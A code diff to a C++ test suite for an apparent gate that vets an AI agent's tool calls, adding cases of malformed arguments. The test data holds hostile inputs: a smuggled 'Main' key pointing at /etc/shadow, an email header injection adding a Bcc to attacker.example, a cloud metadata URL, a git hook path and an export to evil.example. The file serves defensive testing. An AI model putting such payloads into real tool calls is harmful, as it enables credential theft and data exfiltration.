@@ -64,6 +64,14 @@ void mix_private_and_foreign(GateWorld& world) {
   });
 }
 
+/// A tool whose calls choose some names themselves, beside one that is bound.
+void add_a_tool_with_names_of_the_calls(GateWorld& world) {
+  const bool is_added = world.office.policy.tools.insert(
+      office_tool("read_jobs", Effect::Read, Sensitivity::Internal, Reversibility::Reversible,
+                  {at("/jobs/main/path", ArgumentRole::ReadPath), at("/jobs/*", ArgumentRole::Unbound)}));
+  if (!is_added) throw std::logic_error("read_jobs is there already");
+}
+
 const std::vector<Case>& cases() {
   using S = Stage;
   static const std::vector<Case> kCases = {
@@ -97,6 +105,9 @@ const std::vector<Case>& cases() {
          world.change_state([](SessionState& state) { state.taken_in.insert(SourceKind::ToolOutput); });
        }},
       {{ArgumentsMalformed, S::Arguments},
+       call_of("read_jobs", R"({"jobs":{"main":{"path":"/srv/office/shelf/a"},"Main":{"path":"/etc/shadow"}}})"),
+       add_a_tool_with_names_of_the_calls},
+      {{DestinationMalformed, S::Destination},
        call_of("notify", R"({"to":"bo@office.example","subject":"s\r\nBcc: x@attacker.example","body":"b"})")},
       {{ToolReview, S::Tool}, call_of("draft", R"({"id":"T-1"})")},
       {{PermissionTool, S::Permission},
@@ -222,7 +233,8 @@ TEST(RuleNecessity, TheHarmArrives) {
   EXPECT_EQ(*arguments_of(DestinationUnlisted).find("to"), Json("x@attacker.example"));
   EXPECT_EQ(*arguments_of(DestinationMetadata).find("url"), Json("https://169.254.169.254/"));
   EXPECT_EQ(*arguments_of(PathProtected).find("path"), Json("/srv/office/acme/desk/.git/hooks/pre-commit"));
-  EXPECT_EQ(*arguments_of(ArgumentsMalformed).find("subject"), Json("s\r\nBcc: x@attacker.example"));
+  EXPECT_EQ(*arguments_of(ArgumentsMalformed).find("jobs")->find("Main")->find("path"), Json("/etc/shadow"));
+  EXPECT_EQ(*arguments_of(DestinationMalformed).find("subject"), Json("s\r\nBcc: x@attacker.example"));
   EXPECT_EQ(*arguments_of(ArgumentsSchema).find("export_to"), Json("https://evil.example/"));
   EXPECT_EQ(*arguments_of(TenancyInArguments).find("note"), json_of(R"({"tenant":"globex"})"));
 }
